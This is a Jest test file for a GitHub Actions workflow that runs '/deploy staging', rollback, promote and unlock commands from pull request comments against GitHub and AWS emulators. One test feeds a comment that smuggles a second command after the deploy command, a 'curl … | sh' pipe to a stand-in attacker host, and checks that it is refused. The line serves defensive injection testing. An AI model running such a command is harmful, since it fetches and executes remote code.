// .github/workflows/pr-command.yml run through the local workflow runner, called the way an app
// repository's thin caller calls it on issue_comment, against the GitHub REST emulator (pull
// requests, comments, reactions, collaborators, checks, deployments) and the AWS emulator at
// 120x: a collaborator's `/deploy staging` deploys the pull request's head SHA with the digest
// its pipeline recorded; an outsider, an edited comment, an injection attempt and a push after the
// comment deploy nothing.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { issueCommentEvent, pullRequestClosedEvent } from '../emulator/github/events.ts';
import type { GitHubEmulator } from '../emulator/github/server.ts';
import type { IssueComment, Repository } from '../emulator/github/store.ts';
import type { Emulator } from '../emulator/server.ts';
import type { OidcIssuer } from '../harness/index.ts';
import {
  runWorkflow,
  type ReviewRequest,
  type WorkflowRun,
} from '../harness/workflow-runner/index.ts';
import { temporaryCheckout } from '../flow/checkout.ts';
import {
  startStagingShop,
  startWorkflowWorld,
  type WorkflowWorld,
} from '../flow/workflow-world.ts';

const ACCOUNT = '123456789012';
const REPOSITORY = `${ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/shop`;
const ROLE = `arn:aws:iam::${ACCOUNT}:role/shop-deploy-staging`;
const DIGEST = `sha256:${'5a'.repeat(32)}`;
const NEXT_DIGEST = `sha256:${'6b'.repeat(32)}`;
const BOT = 'github-actions[bot]';
const IMAGE_STATUS = 'aws-ship-suite/image';

// The app repository's thin caller.
const CALLER = `
name: pr-commands
on:
  issue_comment:
    types: [created]
  pull_request:
    types: [closed]
permissions: {}
jobs:
  pr:
    permissions:
      pull-requests: write
      contents: write
      deployments: write
      checks: read
      statuses: read
      id-token: write
    uses: OWNER/aws-ship-suite/.github/workflows/pr-command.yml@main
    with:
      targets: \${{ vars.PR_TARGETS }}
`;

const TARGETS = JSON.stringify({
  staging: {
    'role-to-assume': ROLE,
    'aws-region': 'us-east-1',
    cluster: 'staging',
    service: 'shop-staging',
    'image-repository': REPOSITORY,
    'canary-percent': '20',
    'canary-bake': '1m',
    'bake-time': '1m',
  },
});

let world: WorkflowWorld;
let emulator: Emulator;
let github: GitHubEmulator;
let repository: Repository;
let issuer: OidcIssuer;
let checkout: string;
const runs: WorkflowRun[] = [];

beforeAll(async () => {
  world = await startWorkflowWorld();
  ({ issuer, github, repository } = world);
  emulator = await startStagingShop(world, {
    account: ACCOUNT,
    role: ROLE,
    repository: REPOSITORY,
  });
  // A caller that forgot `types: [created]`: what deploy-command decides on its own.
  const anyType = CALLER.replace('  issue_comment:\n    types: [created]\n', '  issue_comment:\n');
  if (anyType === CALLER) throw new Error('the caller has no issue_comment types to drop');
  const workspace = temporaryCheckout('pr-command-workflow', {
    workflows: { 'pr-commands.yml': CALLER, 'pr-commands-any-type.yml': anyType },
    suiteWorkflows: ['pr-command.yml', 'deploy.yml'],
  });
  checkout = workspace.path;
  world.onClose(workspace.remove);
});

afterAll(async () => {
  expect(await world.close(runs)).toEqual([]);
});

/** An open pull request whose head passed its tests and has its image built (unless `image: false`). */
function pullRequest(options: { image?: boolean; digest?: string } = {}): number {
  const issue = github.store.addPullRequest(repository, { author: github.accounts.get('writer') });
  const sha = issue.pull!.headSha;
  github.store.addCheckRun(repository, sha, 'test', 'success');
  if (options.image !== false) {
    github.store.addCommitStatus(
      repository,
      sha,
      IMAGE_STATUS,
      'success',
      options.digest ?? DIGEST,
    );
  }
  return issue.number;
}

const headOf = (number: number) => repository.issues.get(number)!.pull!.headSha;

async function commentRun(
  number: number,
  login: string,
  body: string,
  options: {
    action?: 'created' | 'edited';
    targets?: string;
    workflow?: string;
    review?: (request: ReviewRequest) => Promise<'approve' | 'reject'>;
  } = {},
): Promise<{ run: WorkflowRun; comment: IssueComment }> {
  const comment = github.store.addComment(repository, number, github.accounts.get(login), body);
  const run = await runWorkflow({
    checkout,
    workflow: `.github/workflows/${options.workflow ?? 'pr-commands.yml'}`,
    event: {
      name: 'issue_comment',
      payload: issueCommentEvent(github, comment, options.action ?? 'created', 'before') as Record<
        string,
        unknown
      >,
    },
    context: { actor: login },
    suiteRepository: 'OWNER/aws-ship-suite',
    oidc: issuer,
    vars: { PR_TARGETS: options.targets ?? TARGETS },
    machineEnv: { AWS_ENDPOINT_URL: emulator.url },
    github,
    ...(options.review
      ? { environments: { staging: { reviewers: ['staging-keepers'] } }, review: options.review }
      : {}),
    stepTimeoutMs: 50_000,
  });
  runs.push(run);
  return { run, comment };
}

const repliesAfter = (c: IssueComment) =>
  github.store
    .comments(repository, c.issueNumber)
    .filter((x) => x.id > c.id && x.author.login === BOT)
    .map((x) => x.body);

const reactionsOn = (c: IssueComment) => c.reactions.map((r) => r.content);

const deploymentsOf = (sha: string) => repository.deployments.filter((d) => d.sha === sha);

const imageOfService = () => {
  const running = emulator.ecs
    .tasks()
    .filter((t) => t.lastStatus === 'RUNNING' && t.clusterArn?.endsWith(':cluster/staging'))
    .map((t) => t.taskDefinitionArn ?? '');
  return [...new Set(running)].map(
    (arn) => emulator.ecs.taskDefinitions.byArn(arn)?.definition.containerDefinitions?.[0]?.image,
  );
};

/** Every step's log lines of every job of the run. */
const allLogs = (run: WorkflowRun) =>
  run.jobs.flatMap((job) => [...job.log, ...job.steps.flatMap((step) => step.log)]).join('\n');

describe("a collaborator's /deploy staging", () => {
  let run: WorkflowRun;
  let comment: IssueComment;
  let number: number;
  beforeAll(async () => {
    number = pullRequest();
    ({ run, comment } = await commentRun(number, 'writer', '/deploy staging'));
  }, 150_000);

  it("deploys the pull request's head SHA, with its pipeline's digest, to staging", () => {
    expect(run.conclusion).toBe('success');
    expect(run.job('pr / command').outputs).toMatchObject({
      decision: 'proceed',
      command: 'deploy',
      environment: 'staging',
      sha: headOf(number),
      digest: DIGEST,
    });
    expect(run.job('pr / deploy / deploy')).toMatchObject({
      result: 'success',
      environment: 'staging',
    });
    expect(run.job('pr / deploy / deploy').steps.map((step) => [step.name, step.outcome])).toEqual([
      ['Check the release', 'success'],
      ['Assume the deploy role', 'success'],
      ['Resolve the target', 'success'],
      ['Check out the migrations', 'skipped'],
      ['Plan the migrations (expand)', 'skipped'],
      ['Record the deployment', 'success'],
      ['Promote the image', 'skipped'],
      ['Migrate (expand)', 'skipped'],
      ['Canary', 'success'],
      ['Download the site', 'skipped'],
      ['Deploy the site', 'skipped'],
      ['Migrate (contract)', 'skipped'],
      ['Record the outcome', 'success'],
    ]);
    expect(imageOfService()).toEqual([`${REPOSITORY}@${DIGEST}`]);
  });

  it('records one Deployment: the head SHA, command deploy, who asked, then success', () => {
    expect(
      deploymentsOf(headOf(number)).map((d) => ({
        environment: d.environment,
        payload: d.payload,
        states: d.statuses.map((s) => s.state),
      })),
    ).toEqual([
      {
        environment: 'staging',
        payload: expect.objectContaining({
          command: 'deploy',
          actor: 'writer',
          imageDigest: DIGEST,
          pullRequest: number,
        }),
        states: ['in_progress', 'success'],
      },
    ]);
  });

  it('reacts 👀 at once and 🚀 when the deploy ends, and replies with the decision', () => {
    expect(reactionsOn(comment)).toEqual(['eyes', 'rocket']);
    expect(repliesAfter(comment)[0]).toMatch(/🚀 Deploy started/);
  });

  it('gives each job only its permissions: no id-token and no environment for the command job', () => {
    expect(run.job('pr / command')).toMatchObject({
      permissions: {
        'pull-requests': 'write',
        contents: 'write',
        deployments: 'read',
        checks: 'read',
        statuses: 'read',
      },
      idToken: false,
    });
    expect(run.job('pr / command').environment).toBeUndefined();
    expect(run.job('pr / deploy / deploy')).toMatchObject({
      permissions: {
        contents: 'read',
        deployments: 'write',
        'id-token': 'write',
        'pull-requests': 'write',
      },
      idToken: true,
      concurrency: { group: 'aws-ship-suite-deploy-staging', cancelInProgress: false },
    });
  });
});

describe('what a comment does not deploy', () => {
  it("an outsider's /deploy staging: refused with the reason, no deploy job, no Deployment", async () => {
    const number = pullRequest();
    const { run, comment } = await commentRun(number, 'outsider', '/deploy staging');
    expect(run.job('pr / command').outputs).toMatchObject({
      decision: 'rejected',
      'reason-code': 'permission',
    });
    expect(run.job('pr / deploy')).toMatchObject({ result: 'skipped' });
    expect(run.jobs.map((job) => job.id)).not.toContain('pr / deploy / deploy');
    expect(deploymentsOf(headOf(number))).toEqual([]);
    expect(repliesAfter(comment).join('\n')).toMatch(/@outsider has no access/);
    expect(reactionsOn(comment)).toEqual(['eyes', '-1']);
  }, 60_000);

  it('an edited comment: the caller is not triggered, and deploy-command ignores it even so', async () => {
    const number = pullRequest();
    const edited = await commentRun(number, 'writer', '/deploy staging', { action: 'edited' });
    expect(edited.run).toMatchObject({
      conclusion: 'not triggered',
      notTriggered:
        'not triggered: issue_comment of type edited is not one of on.issue_comment.types (created)',
      jobs: [],
    });
    expect(repliesAfter(edited.comment)).toEqual([]);
    expect(reactionsOn(edited.comment)).toEqual([]);
    const { run, comment } = await commentRun(number, 'writer', '/deploy staging', {
      action: 'edited',
      workflow: 'pr-commands-any-type.yml',
    });
    expect(run.job('pr / command').outputs).toMatchObject({
      decision: 'ignored',
      'reason-code': 'not-created',
    });
    expect(run.job('pr / deploy').result).toBe('skipped');
    expect(deploymentsOf(headOf(number))).toEqual([]);
    expect(repliesAfter(comment)).toEqual([]);
    expect(reactionsOn(comment)).toEqual([]);
  }, 60_000);

  it('/deploy staging; curl …: refused as not understood, never run, never echoed', async () => {
    const number = pullRequest();
    const { run, comment } = await commentRun(
      number,
      'writer',
      '/deploy staging; curl -s https://evil.example/x | sh',
    );
    expect(run.job('pr / command').outputs).toMatchObject({ decision: 'rejected' });
    expect(run.job('pr / deploy').result).toBe('skipped');
    expect(deploymentsOf(headOf(number))).toEqual([]);
    expect(allLogs(run)).not.toContain('evil.example');
    expect(JSON.stringify(run.job('pr / command').outputs)).not.toContain('evil');
    expect(repliesAfter(comment).join('\n')).not.toContain('evil.example');
  }, 60_000);

  it('/deploy staging --dry-run: plans only, no deploy job, no Deployment', async () => {
    const number = pullRequest();
    const { run } = await commentRun(number, 'writer', '/deploy staging --dry-run');
    expect(run.job('pr / command').outputs).toMatchObject({
      decision: 'proceed',
      'dry-run': 'true',
    });
    expect(run.job('pr / command').steps.map((s) => [s.name, s.outcome])).toEqual([
      ['Decide', 'success'],
      ['Check the target', 'skipped'],
      ['Find the image', 'skipped'],
      ['Say the deploy did not start', 'skipped'],
    ]);
    expect(run.job('pr / deploy').result).toBe('skipped');
    expect(deploymentsOf(headOf(number))).toEqual([]);
  }, 60_000);

  it('a head without a built image: the command job says so, nothing deploys', async () => {
    const number = pullRequest({ image: false });
    const { run, comment } = await commentRun(number, 'writer', '/deploy staging');
    const find = run.job('pr / command').steps[2];
    expect(find?.annotations[0]?.message).toBe(
      `No image to deploy: commit ${headOf(number)} has no successful '${IMAGE_STATUS}' status: let the pull request's pipeline build it, then comment again.`,
    );
    // deploy-command said it starts; the comment then learns it did not, and where to read why.
    expect(reactionsOn(comment)).toEqual(['eyes', '-1']);
    expect(repliesAfter(comment).at(-1)).toBe(
      '👎 The deploy did not start: [the run](https://github.com/octo-org/octo-app/actions/runs/9876543210) says why.',
    );
    expect(run.job('pr / deploy').result).toBe('skipped');
    expect(deploymentsOf(headOf(number))).toEqual([]);
  }, 60_000);

  it('a push after the comment: the deploy stops at start, before any Deployment or canary', async () => {
    const number = pullRequest();
    const commented = headOf(number);
    let pushed = '';
    const deploysBefore = emulator.calls.filter((c) => c.action === 'RegisterTaskDefinition');
    const { run, comment } = await commentRun(number, 'writer', '/deploy staging', {
      // The push lands while the deploy job waits for staging's reviewers.
      review: async () => {
        pushed = github.store.push(repository, number);
        return 'approve';
      },
    });
    expect(run.job('pr / command').outputs.sha).toBe(commented);
    const deploy = run.job('pr / deploy / deploy');
    expect(deploy.result).toBe('failure');
    expect(deploy.steps.map((s) => [s.name, s.outcome])).toEqual([
      ['Check the release', 'success'],
      ['Assume the deploy role', 'success'],
      ['Resolve the target', 'success'],
      ['Check out the migrations', 'skipped'],
      ['Plan the migrations (expand)', 'skipped'],
      ['Record the deployment', 'failure'],
      ['Promote the image', 'skipped'],
      ['Migrate (expand)', 'skipped'],
      ['Canary', 'skipped'],
      ['Download the site', 'skipped'],
      ['Deploy the site', 'skipped'],
      ['Migrate (contract)', 'skipped'],
      ['Record the outcome', 'skipped'],
    ]);
    expect(deploy.steps[5]?.outputs['reason-code']).toBe('stale-sha');
    expect(deploymentsOf(commented)).toEqual([]);
    expect(deploymentsOf(pushed)).toEqual([]);
    expect(emulator.calls.filter((c) => c.action === 'RegisterTaskDefinition')).toEqual(
      deploysBefore,
    );
    expect(repliesAfter(comment).join('\n')).toContain(pushed.slice(0, 7));
    expect(reactionsOn(comment)).toEqual(['eyes', '-1']);
  }, 150_000);
});

describe("the caller's targets", () => {
  it.each([
    [
      'not JSON',
      'staging: role',
      `Input 'targets' is not a JSON object: pass {"staging": {"role-to-assume": …, "aws-region": …}} (the stack's deploy document names the rest).`,
    ],
    [
      'without the environment',
      JSON.stringify({ qa: {} }),
      'Input \'targets\' has no role-to-assume, aws-region for staging: add them under "staging".',
    ],
    [
      'missing a field',
      JSON.stringify({ staging: { ...JSON.parse(TARGETS).staging, 'aws-region': '' } }),
      'Input \'targets\' has no aws-region for staging: add them under "staging".',
    ],
  ])(
    '%s: one line in the command job, no deploy job, no Deployment',
    async (_, targets, message) => {
      const number = pullRequest();
      const { run } = await commentRun(number, 'writer', '/deploy staging', { targets });
      const check = run.job('pr / command').steps[1];
      expect([check?.name, check?.outcome, check?.annotations[0]?.message]).toEqual([
        'Check the target',
        'failure',
        message,
      ]);
      expect(run.job('pr / deploy').result).toBe('skipped');
      expect(deploymentsOf(headOf(number))).toEqual([]);
    },
    60_000,
  );
});

describe('/rollback and /promote', () => {
  it('/rollback staging deploys the previous successful deployment again: its commit and its digest', async () => {
    // A second pull request goes out first, so the first one's deploy is the previous one.
    const previous = repository.deployments.findLast(
      (d) => d.environment === 'staging' && d.statuses.at(-1)?.state === 'success',
    );
    expect(previous?.payload).toMatchObject({ imageDigest: DIGEST });
    const number = pullRequest({ digest: NEXT_DIGEST });
    const deployed = await commentRun(number, 'writer', '/deploy staging');
    expect(deployed.run.conclusion).toBe('success');
    expect(imageOfService()).toEqual([`${REPOSITORY}@${NEXT_DIGEST}`]);

    const { run, comment } = await commentRun(number, 'writer', '/rollback staging');
    expect(run.conclusion).toBe('success');
    expect(run.job('pr / command').outputs).toMatchObject({
      decision: 'proceed',
      command: 'rollback',
      sha: previous?.sha,
      digest: DIGEST,
    });
    expect(imageOfService()).toEqual([`${REPOSITORY}@${DIGEST}`]);
    const record = repository.deployments.at(-1);
    expect({
      sha: record?.sha,
      payload: record?.payload,
      states: record?.statuses.map((s) => s.state),
    }).toEqual({
      sha: previous?.sha,
      payload: expect.objectContaining({ command: 'rollback', imageDigest: DIGEST }),
      states: ['in_progress', 'success'],
    });
    expect(reactionsOn(comment)).toEqual(['eyes', 'rocket']);
  }, 200_000);

  it('/promote is answered with needs-approval and left to promote.yml: nothing deploys here', async () => {
    const number = pullRequest();
    const before = repository.deployments.length;
    const { run } = await commentRun(number, 'writer', '/promote');
    expect(run.job('pr / command').outputs).toMatchObject({
      decision: 'proceed',
      command: 'promote',
      'needs-approval': 'true',
    });
    expect(run.job('pr').outputs).toMatchObject({ command: 'promote', 'needs-approval': 'true' });
    expect(run.job('pr / deploy').result).toBe('skipped');
    expect(repository.deployments).toHaveLength(before);
  }, 60_000);
});

describe('a closed pull request', () => {
  it('frees its locks through the same workflow, and deploys nothing', async () => {
    const number = pullRequest();
    const locked = await commentRun(number, 'writer', '/lock staging testing the checkout');
    expect(locked.run.job('pr / command').outputs.decision).toBe('done');
    expect(repository.refs.has('refs/heads/staging-deploy-lock')).toBe(true);
    const run = await runWorkflow({
      checkout,
      workflow: '.github/workflows/pr-commands.yml',
      event: {
        name: 'pull_request',
        payload: pullRequestClosedEvent(
          github,
          repository,
          number,
          github.accounts.get('writer'),
        ) as Record<string, unknown>,
      },
      context: { actor: 'writer' },
      suiteRepository: 'OWNER/aws-ship-suite',
      oidc: issuer,
      vars: { PR_TARGETS: TARGETS },
      github,
    });
    runs.push(run);
    expect(run.job('pr / command').outputs).toMatchObject({ decision: 'done', command: 'unlock' });
    expect(run.job('pr / deploy').result).toBe('skipped');
    expect(repository.refs.has('refs/heads/staging-deploy-lock')).toBe(false);
  }, 60_000);
});
